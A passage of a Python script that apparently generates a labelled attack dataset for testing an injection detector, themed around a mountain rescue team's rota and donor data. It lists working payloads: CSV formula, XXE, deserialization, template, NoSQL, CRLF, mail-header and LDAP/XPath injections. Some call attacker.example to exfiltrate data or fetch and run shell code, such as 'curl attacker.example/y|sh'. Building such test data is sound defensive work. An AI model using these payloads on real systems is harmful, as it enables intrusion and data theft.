    ("csv-formula", "=HYPERLINK(\"http://attacker.example/?d=\"&A1&B1,\"Click for rota\")"),
    ("csv-formula", "=cmd|' /C calc'!A0"),
    ("csv-formula", "@SUM(1+1)*cmd|' /C powershell IEX(wget attacker.example/p)'!A0"),
    ("csv-formula", "+WEBSERVICE(\"http://attacker.example/\"&C2)"),
    ("csv-formula", "-2+3+cmd|' /C notepad'!'A1'"),
    ("csv-formula", "Jonas,=IMPORTXML(CONCAT(\"http://attacker.example/x?\",B2:B40),\"//a\")"),
    ("csv-formula", "\t=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")"),
    ("csv-formula", "=IMAGE(\"https://attacker.example/p.png?\"&A2)"),
    ("xxe", "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><rota><name>&x;</name></rota>"),
    ("xxe", "<!DOCTYPE gpx [<!ENTITY % p SYSTEM \"http://attacker.example/e.dtd\"> %p;]><gpx></gpx>"),
    ("xxe", "<?xml version=\"1.0\"?><!DOCTYPE trk [<!ENTITY s SYSTEM \"http://169.254.169.254/latest/meta-data/\">]><trk><name>&s;</name></trk>"),
    ("xxe", "<!DOCTYPE x [<!ENTITY a \"aaaa\"><!ENTITY b \"&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;\"><!ENTITY d \"&c;&c;&c;&c;&c;&c;\">]><x>&d;</x>"),
    ("xxe", "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" parse=\"text\" href=\"file:///etc/hostname\"/>"),
    ("xxe", "<?xml version=\"1.0\" encoding=\"UTF-16\"?><!DOCTYPE d SYSTEM \"http://198.51.100.30/x.dtd\"><d/>"),
    ("deserialization", "O:8:\"stdClass\":1:{s:4:\"file\";s:11:\"/etc/passwd\";}"),
    ("deserialization", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcAUH2sHDFmDRAwACRgAKbG9hZEZhY3RvckkACXRocmVzaG9sZHhw"),
    ("deserialization", "!!python/object/apply:os.system ['curl attacker.example/y|sh']"),
    ("deserialization", "{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"ObjectInstance\":{\"$type\":\"System.Diagnostics.Process, System\"}}"),
    ("deserialization", "gASVIAAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg=="),
    ("deserialization", "{\"@type\":\"com.sun.rowset.JdbcRowSetImpl\",\"dataSourceName\":\"ldap://attacker.example/o\",\"autoCommit\":true}"),
    ("deserialization", "--- !ruby/object:Gem::Installer\ni: x\n"),
])
CODE_PREFIX = ["Newsletter greeting: ", "Certificate name: ", "Handover note ", "Donor name "]
CODE_POOL = ["{{ config.__class__.__init__.__globals__['os'].popen('id').read() }}", "${jndi:ldap://attacker.example/mr}", "=HYPERLINK(\"http://attacker.example/?\"&A1)", "<%= `id` %>"]

# ---------------- NoSQLi ----------------
lit("nosqli", [
    ("operator", "{\"username\": {\"$ne\": null}, \"password\": {\"$ne\": null}}"),
    ("operator", "{\"email\": {\"$regex\": \"^a\"}, \"pin\": {\"$gt\": \"\"}}"),
    ("operator", "username[$ne]=x&password[$ne]=x"),
    ("operator", "{\"role\": {\"$in\": [\"admin\", \"leader\"]}}"),
    ("operator", "{\"$or\": [{\"member\": \"Jonas\"}, {\"1\": {\"$exists\": false}}]}"),
    ("operator", "pin[$gt]="),
    ("operator", "{\"callout\": {\"$gte\": \"\"}, \"$comment\": \"dump\"}"),
    ("operator", "{\"casualty_name\": {\"$regex\": \".*\", \"$options\": \"si\"}}"),
    ("operator", "member[$exists]=true&role[$eq]=admin"),
    ("operator", "{\"password\": {\"$not\": {\"$eq\": \"guess\"}}}"),
    ("operator", "{\"pager_pin\": {\"$regex\": \"^4[0-9]{3}$\"}}"),
    ("operator", "login[$nin][]=nobody"),
    ("where-js", "{\"$where\": \"sleep(5000) || true\"}"),
    ("where-js", "'; return this.role == 'admin' || '1'=='1"),
    ("where-js", "{\"$where\": \"this.password.match(/^a/)\"}"),
    ("where-js", "1'; while(true){}; var x='"),
    ("where-js", "\"; return db.getCollectionNames(); var y=\""),
    ("where-js", "{\"$expr\": {\"$function\": {\"body\": \"function(){sleep(4000);return true}\", \"args\": [], \"lang\": \"js\"}}}"),
    ("aggregation", "[{\"$lookup\": {\"from\": \"staff_accounts\", \"localField\": \"x\", \"foreignField\": \"x\", \"as\": \"u\"}}]"),
    ("aggregation", "{\"$group\": {\"_id\": \"$password_hash\"}}"),
    ("aggregation", "[{\"$unionWith\": \"donor_bank_details\"}]"),
    ("couch-elastic", "{\"selector\": {\"_id\": {\"$gt\": null}}, \"fields\": [\"pin\"]}"),
    ("couch-elastic", "{\"query\": {\"script\": {\"script\": \"java.lang.Math.class.forName('java.lang.Runtime').getRuntime().exec('id')\"}}}"),
    ("couch-elastic", "*:* OR role:admin"),
    ("redis", "Bess\r\nFLUSHALL\r\n"),
    ("operator", "Jonas', $or: [ {}, { 'a':'a"),
    ("operator", "{\"name\": {\"$type\": 2}, \"$where\": \"1\"}"),
])

# ---------------- CRLF ----------------
lit("crlf", [
    ("log-forging", "Priya\n2024-03-09 14:02:11 INFO login success user=admin role=admin"),
    ("log-forging", "Scafell Pike\r\n[14:05] Base -> all: stand down, stand down. Out."),
    ("log-forging", "24-117%0a2024-03-09T15:00:00Z AUDIT donor_export approved_by=treasurer"),
    ("log-forging", "ok\r\n127.0.0.1 - - [09/Mar/2024:15:00:00 +0000] \"GET /admin HTTP/1.1\" 200 512"),
    ("log-forging", "Tom%0d%0a[WARN] kit R-14 inspection PASS signed M. Thwaite"),
    ("log-forging", "R-14\n\n=== callout 24-140 closed by duty leader ==="),
    ("log-forging", "x\u2028INFO password reset for ingrid completed"),
    ("header-injection", "en-GB\r\nSet-Cookie: session=attacker-fixed; Path=/"),
    ("header-injection", "/rota%0d%0aLocation:%20https://attacker.example/login"),
    ("header-injection", "report.pdf\r\nContent-Disposition: attachment; filename=\"update.exe\""),
    ("header-injection", "%0d%0aX-Forwarded-For:%20127.0.0.1"),
    ("header-injection", "callout%E5%98%8A%E5%98%8DSet-Cookie:%20admin=1"),
    ("header-injection", "x\r\nAccess-Control-Allow-Origin: https://attacker.example\r\nAccess-Control-Allow-Credentials: true"),
    ("header-injection", "%0AContent-Security-Policy:%20script-src%20*"),
    ("response-splitting", "en\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>"),
    ("response-splitting", "/donate%0d%0a%0d%0a<html><form action=https://attacker.example/pay>"),
    ("response-splitting", "lang=cy%0D%0AContent-Type:%20text/html%0D%0A%0D%0A%3Csvg%20onload=alert(1)%3E"),
    ("mail-header", "margaret@example.org\r\nBcc: everyone@attacker.example"),
    ("mail-header", "Thank you from the team\nCc: list@attacker.example\nX-Priority: 1"),
    ("mail-header", "donor@example.org%0ABcc:%20harvest@attacker.example"),
    ("mail-header", "Gift Aid receipt\r\nContent-Type: text/html\r\n\r\n<a href=https://attacker.example/giftaid>Claim refund</a>"),
    ("mail-header", "Helen <helen@example.org>\r\nReply-To: treasurer@attacker.example"),
    ("mail-header", "Receipt\r\nTo: all-donors@valley-mrt.example\r\nSubject: Urgent: update your bank details"),
    ("csv-row", "Jonas\n2024-03-09,Attacker,duty leader,yes"),
    ("csv-row", "Niamh\",\"medic\",\"yes\"\r\n\"2024-03-10\",\"=HYPERLINK(\"\"http://attacker.example\"\")\",\"leader"),
    ("csv-row", "Ali;driver\n11;=cmd|'/C calc'!A0;leader;driver"),
    ("csv-row", "Owen\r\n2024-04-01,Owen,treasurer,\"bank: GB00FAKE00000000000000\""),
])
CRLF_PREFIX = ["Tom", "MR2", "rota-12"]
CRLF_POOL = ["\r\nSet-Cookie: mrt=1", "%0d%0aLocation: http://attacker.example/", "\nBcc: x@attacker.example"]

# ---------------- LDAP / XPath ----------------
lit("ldap-xpath", [
    ("ldap", "*)(uid=*))(|(uid=*"),
    ("ldap", "jonas)(|(objectClass=*)"),
    ("ldap", "admin)(&)"),
    ("ldap", "*)(memberOf=cn=admins,ou=groups,dc=mrt,dc=example)"),
    ("ldap", "x*)(|(userPassword=*)"),
    ("ldap", "priya)(!(cn=nobody))(cn=*"),
    ("ldap", "*))%00"),
    ("ldap", "leader*)(telephoneNumber=*"),
    ("ldap", "\\2a)(uid=\\2a"),
    ("ldap", "*)(description=*pin*"),
    ("xpath", "Jonas' or '1'='1"),
    ("xpath", "Bess' or name()='member' or 'a'='b"),
    ("xpath", "x'] | //member/pin | //a['"),
    ("xpath", "' or count(/*)=1 or ''='"),
    ("xpath", "1' and substring(//staff[1]/password,1,1)='a"),
    ("xpath", "')] | //* | //*[('"),
    ("xpath", "Tom' or string-length(//user[position()=1]/pass)>5 or 'x'='y"),
    ("xpath", "\" or doc('http://attacker.example/x.xml')//a or \""),
    ("xpath", "'] | /rota/member[role='leader']/phone | /x['"),
    ("xpath", "R-14' and /kit/*[1]/@serial and '1'='1"),
])

def gen(cat, cls, prefixes, pool, n, seen):
    out = []
    tries = 0
    while len(out) < n:
        tries += 1
        assert tries < 5000
        v = rng.choice(prefixes) + rng.choice(pool)
        if v in seen:
            continue
        seen.add(v)
        out.append((cat, cls, v, False))
    return out

def urlenc(s):
    return "".join("%%%02X" % b for b in s.encode("utf-8"))

here = os.path.dirname(os.path.abspath(__file__))
benign = set()
with open(os.path.join(here, "benign.jsonl"), encoding="utf-8") as f:
    for line in f:
        benign.add(json.loads(line)["value"])

seen = set(v for _, _, v, _ in A)
assert len(seen) == len(A), "duplicate literal"
extra = []
extra += gen("sqli", "prefixed", SQLI_PREFIX, SQLI_POOL, 4, seen)
for p in SQLI_URL:
    v = urlenc(p); seen.add(v); extra.append(("sqli", "tautology+urlencode" if "OR" in p else "union+urlencode" if "UNION" in p else "stacked+urlencode", v, False))
extra += gen("xss", "prefixed", XSS_PREFIX, XSS_POOL, 6, seen)
extra += gen("cmdi", "prefixed", CMDI_PREFIX, CMDI_POOL, 5, seen)
extra += gen("traversal", "prefixed", TRAV_PREFIX, TRAV_POOL, 3, seen)
for p in TRAV_URL:
    v = urlenc(p); seen.add(v); extra.append(("traversal", "dotdot+urlencode", v, False))
extra += gen("ssrf", "prefixed", SSRF_PREFIX, SSRF_POOL, 3, seen)
extra += gen("code", "prefixed", CODE_PREFIX, CODE_POOL, 3, seen)
extra += gen("crlf", "prefixed", CRLF_PREFIX, CRLF_POOL, 3, seen)

ORDER = ["sqli", "xss", "cmdi", "traversal", "ssrf", "code", "nosqli", "crlf", "ldap-xpath"]
rows = []
for cat in ORDER:
    rows += [r for r in A if r[0] == cat] + [r for r in extra if r[0] == cat]

ok_ctrl = {"\n", "\r", "\t"}
for cat, cls, v, _ in rows:
    assert 1 <= len(v) <= 2000, v
    assert v not in benign, v
    assert not any((ord(c) < 32 and c not in ok_ctrl) or ord(c) == 127 for c in v), v

with open(os.path.join(here, "attacks.jsonl"), "w", encoding="utf-8", newline="\n") as f:
    for i, (cat, cls, v, _) in enumerate(rows, 1):
        f.write(json.dumps({"id": "haka-%05d" % i, "category": cat, "class": cls, "label": "attack", "value": v}, ensure_ascii=False) + "\n")

if __name__ == "__main__":
    import collections
    c = collections.Counter(r[0] for r in rows)
    l = collections.Counter(r[0] for r in rows if r[3])
    print(len(rows), sum(l.values()))
    for k in ORDER:
        print(k, c[k], l[k])
